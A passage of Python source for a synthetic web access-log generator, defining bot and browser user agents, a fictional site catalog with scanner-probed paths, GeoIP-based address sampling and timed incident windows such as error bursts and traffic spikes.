     "(compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", "crawler", 2.0, "114.119.128.0/19"),
    ("GPTBot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
     "+https://openai.com/gptbot)", "crawler", 5.0, "20.171.206.0/24 20.171.207.0/24"),
    ("ClaudeBot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
     "+claudebot@anthropic.com)", "crawler", 3.0, "216.73.216.0/24"),
    ("CCBot", "CCBot/2.0 (https://commoncrawl.org/faq/)", "crawler", 1.0, "18.97.9.0/24 18.97.14.0/24"),
    ("Bytespider", "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
     "(compatible; Bytespider; spider-feedback@bytedance.com)", "crawler", 2.0, "110.249.201.0/24 111.225.148.0/24"),
    ("PerplexityBot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
     "+https://perplexity.ai/perplexitybot)", "crawler", 1.0, ""),
    ("OAI-SearchBot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; "
     "+https://openai.com/searchbot", "crawler", 1.0, "20.171.206.0/24"),
    ("ChatGPT-User", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; "
     "+https://openai.com/bot", "preview", 0.8, "23.98.142.176/28"),
    ("meta-externalagent", "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
     "crawler", 2.0, "57.141.0.0/24 2a03:2880:f800::/48"),
    ("SeznamBot", "Mozilla/5.0 (compatible; SeznamBot/4.0; +https://o-seznam.cz/napoveda/vyhledavani/en/"
     "seznambot-crawler/)", "crawler", 0.4, "77.75.76.0/24"),
    ("archive.org_bot", "Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot) "
     "Zeno/f5c9ba1 warc/v0.8.85", "crawler", 0.3, "207.241.225.0/24"),
    ("DataForSeoBot", "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)",
     "crawler", 1.0, ""),
    ("HeadlessChrome", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "HeadlessChrome/148.0.0.0 Safari/537.36", "tool", 1.0, ""),
    ("Amazonbot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; "
     "+https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36", "crawler", 1.5, ""),
    ("facebookexternalhit", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "preview",
     3.0, "69.171.230.0/24 173.252.83.0/24 66.220.149.0/24 2a03:2880:f800::/48"),
    ("Twitterbot", "Twitterbot/1.0", "preview", 0.8, "199.16.157.0/24"),
    ("LinkedInBot", "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
     "preview", 0.5, ""),
    ("Slackbot", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "preview", 0.5, ""),
    ("Discordbot", "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", "preview", 0.4, ""),
    ("curl", "curl/8.14.1", "tool", 1.2, ""),
    ("curl", "curl/8.5.0", "tool", 1.0, ""),
    ("curl", "curl/7.81.0", "tool", 0.8, ""),
    ("python-requests", "python-requests/2.32.4", "tool", 1.8, ""),
    ("python-requests", "python-requests/2.31.0", "tool", 1.2, ""),
    ("Go-http-client", "Go-http-client/1.1", "tool", 1.2, ""),
    ("Go-http-client", "Go-http-client/2.0", "tool", 0.6, ""),
    ("Wget", "Wget/1.21.4", "tool", 0.5, ""),
    ("UptimeRobot", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor", 2.0,
     "69.162.124.224/28 63.143.42.240/28"),
    ("Pingdom", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "monitor", 1.0, ""),
    ("Feedly", "Feedly/1.0 (+https://feedly.com/poller.html; 16 subscribers; )", "feed", 1.0, ""),
    ("Inoreader", "Inoreader/1.0 (+http://www.inoreader.com/feed-fetcher; 3 subscribers; )", "feed", 0.5, ""),
    ("NewsBlur", "NewsBlur Feed Fetcher - 5 subscribers - https://www.newsblur.com/site/6045362/example "
     "(Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.4 "
     "Safari/605.1.15)", "feed", 0.4, ""),
    ("FreshRSS", "FreshRSS/1.26.3 (Linux; https://freshrss.org)", "feed", 0.3, ""),
    ("Tiny Tiny RSS", "Tiny Tiny RSS/25.05 (https://tt-rss.org/)", "feed", 0.2, ""),
    ("zgrab", "Mozilla/5.0 zgrab/0.x", "probe", 0.8, ""),
    ("CensysInspect", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "probe", 0.6, ""),
    ("Expanse", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per "
     "day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, "
     "please send IP addresses/domains to: scaninfo@paloaltonetworks.com", "probe", 0.6, ""),
)  # fmt: skip
BOT_IPS_PER_AGENT = 12


@dataclass(frozen=True)
class Agent:
    """One user-agent string of the generator with its labels (the ground truth for UA parsing tests)."""

    ua: str
    browser: str
    os: str
    device: str
    is_bot: bool
    weight: float
    kind: str  # "human", or a bot behaviour: crawler, preview, feed, monitor, tool, probe, scanner, health


@dataclass
class Sample:
    """A generated log: the planned rows (numpy arrays) plus tables, formatted lazily in chunks."""

    seed: int
    lines: int
    start: datetime
    end: datetime
    tz: str
    incidents: list[dict]
    oddities: dict[str, int]
    bot_lines: int
    columns: dict[str, np.ndarray] = field(repr=False)
    ips: list[str] = field(repr=False)
    paths: list[str] = field(repr=False)
    referrers: list[str] = field(repr=False)
    overrides: dict[int, str] = field(repr=False)

    def chunks(self, size: int = CHUNK_LINES) -> Iterator[bytes]:
        """Yield the log as blocks of complete newline-terminated lines."""
        for i0 in range(0, self.lines, size):
            yield _format_block(self, i0, min(i0 + size, self.lines))

    def iter_lines(self) -> Iterator[bytes]:
        """Yield the log one line at a time, without the newline."""
        for block in self.chunks():
            yield from block[:-1].split(b"\n")

    def summary(self) -> dict:
        """The sidecar document: parameters, span, incidents and oddity counts."""
        return {
            "seed": self.seed,
            "lines": self.lines,
            "start": _iso(self.start),
            "end": _iso(self.end),
            "tz": self.tz,
            "bot_lines": self.bot_lines,
            "oddities": dict(self.oddities),
            "incidents": self.incidents,
        }


@dataclass
class _Site:
    """The site's catalog: every path with its type, size and default status, plus samplers."""

    paths: list[str]
    ctype: np.ndarray
    size: np.ndarray
    status: np.ndarray
    page_ids: np.ndarray
    page_p: np.ndarray
    page_image: np.ndarray
    crawl_ids: np.ndarray
    crawl_p: np.ndarray
    missing_ids: np.ndarray
    asset_ids: np.ndarray
    partial_ids: np.ndarray
    api_method: np.ndarray
    api_path: np.ndarray
    api_status: np.ndarray
    api_size: np.ndarray
    api_p: np.ndarray
    blog_ids: np.ndarray
    preview_ids: np.ndarray
    scanner_ids: np.ndarray
    ids: dict[str, int]


@dataclass
class _Window:
    """An incident window in seconds from the start of the span."""

    kind: str
    t0: float
    t1: float
    subject: str = ""
    details: dict = field(default_factory=dict)


def _weights(n: int, head: int = 2, decay: float = 0.55) -> list[float]:
    """Weights of versions from the newest: the first ``head`` share the lead, then a geometric tail."""
    return [1.0 if i < head else decay ** (i - head + 1) for i in range(n)]


def _human_agents() -> list[Agent]:
    """Browser user agents as of mid-2026 with realistic shares (reduced UA strings where browsers send them)."""
    out: list[Agent] = []

    def add(ua: str, browser: str, os_: str, device: str, weight: float) -> None:
        out.append(Agent(ua, browser, os_, device, False, weight, "human"))

    def spread(items: list | tuple, share: float, head: int = 2, decay: float = 0.55) -> list[tuple]:
        w = _weights(len(items), head, decay)
        return [(item, share * wi / sum(w)) for item, wi in zip(items, w, strict=True)]

    chrome = range(CHROME_LATEST, CHROME_LATEST - CHROME_VERSIONS, -1)
    for plat, os_, device, share in CHROME_PLATFORMS:
        mobile = "Mobile " if device == "mobile" else ""
        for v, w in spread(chrome, share):
            add(
                f"Mozilla/5.0 ({plat}) {WEBKIT} Chrome/{v}.0.0.0 {mobile}Safari/537.36",
                CHROME_NAMES[device],
                os_,
                device,
                w,
            )
    add(
        f"Mozilla/5.0 (Windows NT 6.1; Win64; x64) {WEBKIT} Chrome/109.0.0.0 Safari/537.36",
        "Chrome",
        "Windows",
        "desktop",
        0.3,
    )
    for model, android, v in OLD_ANDROID_CHROME:
        add(
            f"Mozilla/5.0 (Linux; Android {android}; {model}) {WEBKIT} Chrome/{v}.0.0.0 Mobile Safari/537.36",
            "Chrome Mobile",
            "Android",
            "mobile",
            0.04,
        )
    for i, (v, w) in enumerate(spread(range(CHROME_LATEST, CHROME_LATEST - 10, -1), 2.0)):
        build = f"{v}.0.{7700 - (CHROME_LATEST - v) * 95}.{(i * 37) % 180 + 20}"
        add(
            f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {SAFARI_WEBKIT} CriOS/{build} Mobile/15E148 "
            "Safari/604.1",
            "Chrome Mobile iOS",
            "iOS",
            "mobile",
            w,
        )
    for (os_v, version), share in IOS_SAFARI:
        for device, dev, ratio in (("iPhone; CPU iPhone OS", "mobile", 0.88), ("iPad; CPU OS", "tablet", 0.12)):
            add(
                f"Mozilla/5.0 ({device} {os_v} like Mac OS X) {SAFARI_WEBKIT} Version/{version} Mobile/15E148 "
                "Safari/604.1",
                "Mobile Safari",
                "iOS",
                dev,
                share * ratio,
            )
    for version, share in MAC_SAFARI:
        add(
            f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {SAFARI_WEBKIT} Version/{version} Safari/605.1.15",
            "Safari",
            "Mac OS X",
            "desktop",
            share,
        )
    for plat, os_, device, share in EDGE_PLATFORMS:
        mobile, tag = ("Mobile ", "EdgA") if device == "mobile" else ("", "Edg")
        for i, (v, w) in enumerate(spread(range(CHROME_LATEST, CHROME_LATEST - 14, -1), share)):
            for k, part in enumerate((0.7, 0.3)):
                build = f"{v}.0.{3900 - (CHROME_LATEST - v) * 65}.{(i * 13 + k * 41) % 120 + 10}"
                add(
                    f"Mozilla/5.0 ({plat}) {WEBKIT} Chrome/{v}.0.0.0 {mobile}Safari/537.36 {tag}/{build}",
                    "Edge",
                    os_,
                    device,
                    w * part,
                )
    firefox = range(FIREFOX_LATEST, FIREFOX_ESR[0][0], -1)
    for plat, os_, device, share, gecko in FIREFOX_PLATFORMS:
        esr = [(v, share * part) for v, part in FIREFOX_ESR]
        for v, w in spread(firefox, share * (1 - sum(p for _, p in FIREFOX_ESR)), decay=0.5) + esr:
            add(
                f"Mozilla/5.0 ({plat.format(v=v)}) {gecko.format(v=v)} Firefox/{v}.0",
                "Firefox Mobile" if device == "mobile" else "Firefox",
                os_,
                device,
                w,
            )
    for v, w in spread(range(FIREFOX_LATEST, FIREFOX_LATEST - 8, -1), 0.3):
        add(
            f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {SAFARI_WEBKIT} FxiOS/{v}.0 Mobile/15E148 "
            "Safari/605.1.15",
            "Firefox iOS",
            "iOS",
            "mobile",
            w,
        )
    for (sv, cv), w in spread(SAMSUNG_VERSIONS, 2.5):
        add(
            f"Mozilla/5.0 (Linux; Android 10; K) {WEBKIT} SamsungBrowser/{sv}.0 Chrome/{cv}.0.0.0 Mobile Safari/537.36",
            "Samsung Internet",
            "Android",
            "mobile",
            w,
        )
    for model, android in SAMSUNG_MODELS:
        for sv, cv in SAMSUNG_VERSIONS[3:6]:
            add(
                f"Mozilla/5.0 (Linux; Android {android}; SAMSUNG {model}) {WEBKIT} SamsungBrowser/{sv}.0 "
                f"Chrome/{cv}.0.0.0 Mobile Safari/537.36",
                "Samsung Internet",
                "Android",
                "tablet" if "SM-X" in model else "mobile",
                0.8 / len(SAMSUNG_MODELS) / 3,
            )
    for (ov, cv), w in spread(OPERA_VERSIONS, 1.2):
        add(
            f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT} Chrome/{cv}.0.0.0 Safari/537.36 OPR/{ov}.0.0.0",
            "Opera",
            "Windows",
            "desktop",
            w,
        )
    for (yv, cv), w in spread(YANDEX_VERSIONS, 0.6):
        add(
            f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT} Chrome/{cv}.0.0.0 YaBrowser/{yv}.0 Yowser/2.5 "
            "Safari/537.36",
            "Yandex Browser",
            "Windows",
            "desktop",
            w,
        )
    for ua, browser, os_, device, share in OTHER_BROWSERS:
        add(ua.format(webkit=WEBKIT), browser, os_, device, share)
    for model, build, android in ANDROID_MODELS:
        for cv in (CHROME_LATEST - 1, CHROME_LATEST - 3):
            for suffix, browser, share in IN_APP_ANDROID:
                add(
                    f"Mozilla/5.0 (Linux; Android {android}; {model} Build/{build}; wv) {WEBKIT} Version/4.0 "
                    f"Chrome/{cv}.0.{7000 + cv * 5}.{cv % 97} Mobile Safari/537.36 {suffix}",
                    browser,
                    "Android",
                    "mobile",
                    share / len(ANDROID_MODELS) / 2,
                )
    for os_v in ("18_6", "18_5", "17_7"):
        for app, browser, share in IN_APP_IOS:
            suffix = app.format(v=os_v, d=os_v.replace("_", "."))
            add(
                f"Mozilla/5.0 (iPhone; CPU iPhone OS {os_v} like Mac OS X) {SAFARI_WEBKIT} Mobile/15E148 {suffix}",
                browser,
                "iOS",
                "mobile",
                share / 3,
            )
    return out


@lru_cache(maxsize=1)
def agents() -> tuple[Agent, ...]:
    """Every user agent the generator writes, humans first, with browser/os/device/bot labels."""
    out = _human_agents()
    for label, ua, kind, share, _ in BOTS:
        out.append(Agent(ua, label, "Other", "bot", True, share, kind))
    for ua in SCANNER_AGENTS:
        if ua not in {a.ua for a in out}:
            out.append(Agent(ua, "scanner", "Other", "bot", True, 0.0, "scanner"))
    for ua in HEALTH_AGENTS:
        out.append(Agent(ua, ua.split("/")[0], "Other", "bot", True, 0.0, "health"))
    return tuple(out)


def _catalog_slugs() -> tuple[list[str], list[str]]:
    """Blog post and product slugs, fixed for every seed."""
    rng = np.random.default_rng(CATALOG_SEED)
    blog: list[str] = []
    while len(blog) < 120:
        a, b = rng.choice(BLOG_WORDS, 2, replace=False)
        slug = str(rng.choice(BLOG_PATTERNS)).format(a=a, b=b)
        if slug not in blog:
            blog.append(slug)
    products = [f"{m}-{i}" for m in PRODUCT_WORDS for i in PRODUCT_ITEMS]
    order = rng.permutation(len(products))[:80]
    return blog, [products[i] for i in order]


def _zipf(n: int, total: float, s: float = 1.0) -> np.ndarray:
    """Zipf-like weights for ``n`` items summing to ``total``."""
    w = 1.0 / np.arange(1, n + 1) ** s
    return w * total / w.sum()


def _scanner_paths() -> list[str]:
    """Several hundred distinct paths a vulnerability scanner walks, in a fixed order."""
    out = list(SCANNER_FILES)
    out += [p + f for p in SCANNER_PREFIXES for f in SCANNER_PREFIXED]
    out += [f"/{s}.php" for s in SCANNER_SHELLS]
    out += [f"/{name}{ext}" for name in SCANNER_BACKUPS for ext in SCANNER_ARCHIVES]
    out += [f"/wp-content/plugins/{s}/{s}.php" for s in SCANNER_SHELLS[:20]]
    out += [
        f"/wp-content/uploads/{y}/{m:02d}/{s}.php" for y in (2024, 2025) for m in (1, 6) for s in SCANNER_SHELLS[:8]
    ]
    seen: dict[str, None] = dict.fromkeys(out)
    return list(seen)


@lru_cache(maxsize=1)
def _site() -> _Site:
    """Build the catalog of the imaginary site once."""
    blog, products = _catalog_slugs()
    paths: list[str] = []
    ctype: list[int] = []
    size: list[int] = []
    status: list[int] = []
    ids: dict[str, int] = {}

    def add(path: str, kind: int, nbytes: int, code: int = 200) -> int:
        if path in ids:
            return ids[path]
        ids[path] = len(paths)
        paths.append(path)
        ctype.append(kind)
        size.append(nbytes)
        status.append(code)
        return ids[path]

    rng = np.random.default_rng(CATALOG_SEED + 1)
    pages: list[tuple[int, float, float, int]] = []  # (id, human weight, crawl weight, image id)
    for path, kind, nbytes, code, hw, cw in FIXED_PAGES:
        pages.append((add(path, kind, nbytes, code), hw, cw, -1))
    for slug, w in zip(blog, _zipf(len(blog), 25.0), strict=True):
        img = add(f"/images/blog/{slug}.jpg", IMG, int(rng.lognormal(11.2, 0.5)))
        pages.append((add(f"/blog/{slug}", HTML, int(rng.lognormal(10.4, 0.3))), w, 0.4, img))
    for slug, w in zip(products, _zipf(len(products), 20.0), strict=True):
        img = add(f"/images/products/{slug}.webp", IMG, int(rng.lognormal(10.9, 0.4)))
        pid = add(f"/products/{slug}", HTML, int(rng.lognormal(10.5, 0.2)))
        pages.append((pid, w * 0.85, 0.5, img))
        for color in COLORS[:3]:
            q = add(f"/products/{slug}?color={color}&size={SIZES[int(rng.integers(len(SIZES)))]}", HTML, size[pid])
            pages.append((q, w * 0.05, 0.02, img))
    for i, w in enumerate(_zipf(40, 6.0)):
        pages.append(
            (
                add(f"/docs/{BLOG_WORDS[i % 30]}{'' if i < 30 else '-advanced'}", HTML, int(rng.lognormal(9.9, 0.4))),
                w,
                0.5,
                -1,
            )
        )
    for i, w in enumerate(_zipf(10, 3.0)):
        pages.append((add(f"/category/{PRODUCT_ITEMS[i]}", HTML, int(rng.lognormal(10.5, 0.2))), w, 0.6, -1))
    for n in range(2, 11):
        pages.append((add(f"/blog/page/{n}", HTML, 29_000 + n * 17), 2.0 / n, 0.5, -1))
    for i, w in enumerate(_zipf(15, 1.5)):
        pages.append((add(f"/blog/tag/{BLOG_WORDS[i]}", HTML, 21_000 + i * 311), w, 0.4, -1))
    for term, w in zip(SEARCH_TERMS, _zipf(len(SEARCH_TERMS), 1.5), strict=True):
        pages.append((add(f"/search?q={term.replace(' ', '+')}", HTML, 17_500 + len(term) * 97), w, 0.02, -1))
    for i, slug in enumerate(blog[:20]):
        pages.append((add(f"/old-blog/{slug}.html", HTML, 178, 301), 0.0, 0.2 / (i + 1), -1))
    missing = [add(p, HTML, STATUS_SIZES[404], 404) for p in MISSING_PAGES]
    missing += [add(f"/blog/{slug[:-2]}", HTML, STATUS_SIZES[404], 404) for slug in blog[::8]]
    missing += [
        add(f"/products/{m}-{i}", HTML, STATUS_SIZES[404], 404) for m in PRODUCT_WORDS[:5] for i in ("vase", "rug")
    ]
    assets = [add(p, k, n) for p, k, n in SITE_ASSETS]
    partial = [add(p, k, n) for p, k, n in PARTIAL_ASSETS]
    api_method, api_path, api_status, api_size, api_w = [], [], [], [], []
    for method, path, code, nbytes, w in API_ENTRIES:
        api_method.append(METHODS.index(method))
        api_path.append(add(path, JSON, max(nbytes, 0), code))
        api_status.append(code)
        api_size.append(nbytes)
        api_w.append(w)
    for method, template, count, code, nbytes, w in API_VARIANTS:
        for n in range(1, count + 1):
            api_method.append(METHODS.index(method))
            api_path.append(add(template.format(n), JSON, max(nbytes, 0), code))
            api_status.append(code)
            api_size.append(nbytes)
            api_w.append(w * _zipf(count, 1.0)[n - 1])
    scanner = []
    for p in _scanner_paths():
        code = 403 if p in SCANNER_FORBIDDEN else 404
        scanner.append(add(p, HTML, STATUS_SIZES[code], code))
    scanner += [ids["/"], ids["/robots.txt"], ids["/login"], ids["/sitemap.xml"], ids["/.well-known/security.txt"]]
    page_ids = np.array([p[0] for p in pages])
    human_w = np.array([p[1] for p in pages])
    crawl_w = np.array([p[2] for p in pages])
    keep = human_w > 0
    crawl_ids = np.concatenate([page_ids, missing, assets[:3]])
    crawl_w = np.concatenate([crawl_w, np.full(len(missing), 0.08), np.full(3, 0.5)])
    blog_ids = np.array([ids[f"/blog/{s}"] for s in blog])
    preview = np.concatenate([blog_ids[:40], [ids[f"/products/{s}"] for s in products[:30]], [ids["/"]]])
    return _Site(
        paths=paths,
        ctype=np.array(ctype, dtype=np.int8),
        size=np.array(size, dtype=np.int64),
        status=np.array(status, dtype=np.int16),
        page_ids=page_ids[keep],
        page_p=human_w[keep] / human_w[keep].sum(),
        page_image=np.array([p[3] for p in pages])[keep],
        crawl_ids=crawl_ids,
        crawl_p=crawl_w / crawl_w.sum(),
        missing_ids=np.array(missing),
        asset_ids=np.array(assets),
        partial_ids=np.array(partial + assets),
        api_method=np.array(api_method, dtype=np.int8),
        api_path=np.array(api_path),
        api_status=np.array(api_status, dtype=np.int16),
        api_size=np.array(api_size, dtype=np.int64),
        api_p=np.array(api_w) / sum(api_w),
        blog_ids=blog_ids,
        preview_ids=preview,
        scanner_ids=np.array(scanner),
        ids=ids,
    )


@lru_cache(maxsize=2)
def country_networks(db_path: str = str(DB_PATH)) -> dict[str, tuple[list[tuple[int, int]], list[tuple[int, int]]]]:
    """Per country, up to NETWORKS_PER_COUNTRY real IPv4 and IPv6 networks as (first address, prefix length).

    The address space is probed every /18 (IPv4) and every /26-/30 inside the RIR IPv6 blocks, jumping over
    each network found, which takes ~0.15 s instead of the ~4 s of iterating the whole database.
    """
    found: dict[str, tuple[list[tuple[int, int]], list[tuple[int, int]]]] = {}
    with maxminddb.open_database(db_path) as reader:
        lookup = reader.get_with_prefix_len
        addr, end, step = 1 << 24, 224 << 24, 1 << PROBE_V4_STEP_BITS
        while addr < end:
            record, plen = lookup(_v4(addr))
            span = 1 << (32 - plen)
            first = addr & ~(span - 1)
            if record and record.get("country_code"):
                found.setdefault(record["country_code"], ([], []))[0].append((first, plen))
            addr = max(first + span, addr + step)
        for addr, end, slen in PROBE_V6_BLOCKS:
            step = 1 << (128 - slen)
            while addr < end:
                record, plen = lookup(_v6(addr))
                span = 1 << (128 - plen)
                first = addr & ~(span - 1)
                if record and record.get("country_code"):
                    found.setdefault(record["country_code"], ([], []))[1].append((first, plen))
                addr = max(first + span, addr + step)
    out = {}
    for cc, (v4, v6) in found.items():
        out[cc] = (_spread(v4, NETWORKS_PER_COUNTRY), _spread(v6, NETWORKS_PER_COUNTRY // 2))
    return out


def _spread(items: list, n: int) -> list:
    """Up to ``n`` items evenly spaced through the list (deterministic)."""
    if len(items) <= n:
        return list(items)
    return [items[i * len(items) // n] for i in range(n)]


def _v4(addr: int) -> str:
    """Dotted quad of an integer address."""
    return f"{addr >> 24}.{(addr >> 16) & 255}.{(addr >> 8) & 255}.{addr & 255}"


def _v6(addr: int) -> str:
    """Compressed text of an integer IPv6 address."""
    groups = [(addr >> (112 - 16 * i)) & 0xFFFF for i in range(8)]
    best, best_len, run, run_len = -1, 1, -1, 0
    for i, g in enumerate(groups):
        if g == 0:
            if run < 0:
                run, run_len = i, 0
            run_len += 1
            if run_len > best_len:
                best, best_len = run, run_len
        else:
            run = -1
    text = [f"{g:x}" for g in groups]
    if best < 0:
        return ":".join(text)
    return ":".join(text[:best]) + "::" + ":".join(text[best + best_len :])


class _Generator:
    """Holds the random state and the growing tables while one sample is planned."""

    def __init__(self, lines: int, days: float, seed: int, start: datetime, tz: str, incidents: bool) -> None:
        self.rng = np.random.default_rng(seed)
        self.lines, self.seed, self.tz = lines, seed, tz
        self.start = start
        self.t0 = start.timestamp()
        self.span = days * 86400.0
        self.site = _site()
        self.agents = agents()
        self.ua_index = {a.ua: i for i, a in enumerate(self.agents)}
        self.nets = country_networks()
        self.ips: list[str] = []
        self.paths = list(self.site.paths)
        self.derived: list[int] = []  # catalog entry behind each path added beyond the catalog
        self.reserved: set[str] = set()  # incident subjects no other client may share
        codes = [c for c, _, _ in COUNTRIES if c in self.nets and self.nets[c][0]]
        meta = {c: (w, o) for c, w, o in COUNTRIES}
        self.countries = codes
        self.country_w = np.array([meta[c][0] for c in codes])
        self.country_off = np.array([meta[c][1] for c in codes])
        self.offsets = np.unique(np.append(self.country_off, OFFICE_OFFSET))
        self.ext_refs = [r for r, _ in EXTERNAL_REFERRERS]
        self.ext_p = np.array([w for _, w in EXTERNAL_REFERRERS])
        self.ext_p /= self.ext_p.sum()
        self.internal_base = len(self.ext_refs)
        human = [i for i, a in enumerate(self.agents) if a.kind == "human"]
        self.human_ua = np.array(human)
        hw = np.array([self.agents[i].weight for i in human])
        self.human_ua_p = hw / hw.sum()
        self.n_min = max(1, math.ceil(self.span / 60))
        self.windows = self._plan_windows() if incidents else []
        self.noise = self._draw_noise()

    # -- time ------------------------------------------------------------------------------------------
    def _grid(self) -> np.ndarray:
        """Midpoints of the minutes of the span, as absolute minutes since the epoch."""
        return self.t0 / 60 + np.arange(self.n_min) + 0.5

    def _widths(self) -> np.ndarray:
        """Seconds covered by each minute of the grid (the last one may be partial)."""
        w = np.full(self.n_min, 60.0)
        w[-1] = self.span - 60.0 * (self.n_min - 1)
        return w

    def _draw_noise(self) -> np.ndarray:
        """Shared multiplicative noise per minute: per 10-minute block and per day."""
        blocks = self.rng.lognormal(0.0, NOISE_SIGMA, self.n_min // NOISE_BLOCK_MINUTES + 1)
        days = self.rng.lognormal(0.0, DAY_NOISE_SIGMA, self.n_min // 1440 + 1)
        m = np.arange(self.n_min)
        return blocks[m // NOISE_BLOCK_MINUTES] * days[m // 1440]

    def _human_intensity(self, offset: float, spike: bool = True) -> np.ndarray:
        """Relative rate of session starts per minute for visitors at UTC+offset."""
        local = self._grid() + offset * 60
        hour = (local % 1440) / 60
        profile = np.interp(hour, np.arange(25), (*HOURLY_PROFILE, HOURLY_PROFILE[0]))
        weekday = (np.floor(local / 1440).astype(np.int64) + 3) % 7
        rate = profile * np.where(weekday >= 5, WEEKEND_FACTOR, 1.0) * self.noise
        if spike:
            for w in self.windows:
                if w.kind == "spike":
                    rate = rate * np.where(self._in_minutes(w), w.details["factor"], 1.0)
        return rate * self._widths() / 60

    def _bot_intensity(self) -> np.ndarray:
        """Relative rate of bot requests per minute: flat with a faint daily wave, thinned by a drop."""
        hour = (self._grid() % 1440) / 60
        rate = (1 + BOT_DIURNAL_AMPLITUDE * np.sin(2 * np.pi * (hour - 8) / 24)) * self.noise
        for w in self.windows:
            if w.kind == "drop":
                rate = rate * np.where(self._in_minutes(w), w.details["keep"], 1.0)
        return rate * self._widths() / 60

    def _in_minutes(self, w: _Window) -> np.ndarray:
        """Mask of the grid minutes inside a window (windows are minute-aligned)."""
        mid = (np.arange(self.n_min) + 0.5) * 60
        return (mid >= w.t0) & (mid < w.t1)

    def _sample_times(self, rate: np.ndarray, n: int) -> np.ndarray:
        """Draw ``n`` times (seconds from the start) from a per-minute rate."""
        cdf = np.cumsum(rate)
        m = np.minimum(np.searchsorted(cdf, self.rng.random(n) * cdf[-1], side="right"), self.n_min - 1)
        return m * 60.0 + self.rng.random(n) * self._widths()[m]

    # -- incidents -------------------------------------------------------------------------------------
    def _plan_windows(self) -> list[_Window]:
        """Place one window per incident kind in its own slot of the span, minute-aligned, busiest of a few."""
        rng = self.rng
        order = rng.permutation(len(INCIDENT_KINDS))
        margin = self.span * INCIDENT_MARGIN
        slot = (self.span - 2 * margin) / len(INCIDENT_KINDS)
        windows = []
        for i, k in enumerate(order):
            kind = INCIDENT_KINDS[k]
            lo, hi = INCIDENT_MINUTES[kind]
            minutes = int(rng.integers(lo, hi + 1))
            dur = max(60.0, min(minutes * 60.0, math.floor(slot * 0.6 / 60) * 60))
            s0 = margin + i * slot
            best, best_score = None, -1.0
            for _ in range(INCIDENT_CANDIDATES):
                t = s0 + rng.random() * max(slot - dur - 120, 0)
                t = math.ceil((self.t0 + t) / 60) * 60 - self.t0
                hour = ((self.t0 + t + dur / 2) % 86400) / 3600
                score = float(np.interp(hour, np.arange(25), (*HOURLY_PROFILE, HOURLY_PROFILE[0])))
                if score > best_score:
                    best, best_score = t, score
            windows.append(_Window(kind, best, min(best + dur, self.span)))
        windows.sort(key=lambda w: w.t0)
        for w in windows:
            if w.kind == "5xx_burst":
                w.details["error_rate"] = round(float(rng.uniform(*BURST_ERROR_RATE)), 3)
            elif w.kind == "drop":
                w.details["keep"] = round(float(rng.uniform(*DROP_KEEP)), 3)
            elif w.kind == "spike":
                w.details["factor"] = round(float(rng.uniform(*SPIKE_FACTOR)), 2)
        return windows

    def _window(self, kind: str) -> _Window | None:
        """The window of an incident kind, if incidents are on."""
        return next((w for w in self.windows if w.kind == kind), None)

    # -- addresses and visitors ------------------------------------------------------------------------
    def _add_ips(self, texts: list[str]) -> np.ndarray:
        """Append IP strings to the table; return their indices."""
        first = len(self.ips)
        self.ips.extend(texts)
        return np.arange(first, first + len(texts), dtype=np.int32)

    def _draw_ips(self, codes: list[str], v6: np.ndarray) -> list[str]:
        """One address per entry inside a real network of its country (IPv6 where asked and available)."""
        rng = self.rng
        n = len(codes)
        pick = rng.random(n)
        host = rng.integers(0, 1 << 62, n, dtype=np.int64).tolist()
        iid = rng.integers(0, 1 << 62, n, dtype=np.int64).tolist()
        out = []
        for i, cc in enumerate(codes):
            nets4, nets6 = self.nets[cc]
            if v6[i] and nets6:
                first, plen = nets6[int(pick[i] * len(nets6))]
                if plen <= 64:
                    subnet = (host[i] % (1 << (64 - plen))) << 64 if plen < 64 else 0
                    out.append(_v6(first + subnet + (iid[i] << 2) + 1))
                else:
                    out.append(_v6(first + host[i] % (1 << (128 - plen))))
            else:
                first, plen = nets4[int(pick[i] * len(nets4))]
                size = 1 << (32 - plen)
                addr = first + (host[i] % size if size > 2 else 0)
                if size >= 256 and addr & 255 in (0, 255):
                    addr ^= 1
                out.append(_v4(addr))
        return out

    def _fresh_ip(self, cc: str, avoid: set[str]) -> str:
        """An IPv4 address of a country that is not in ``avoid`` (a scanner must be alone on its address)."""
        while True:
            ip = self._draw_ips([cc], np.zeros(1, dtype=bool))[0]
            if ip not in avoid:
                return ip

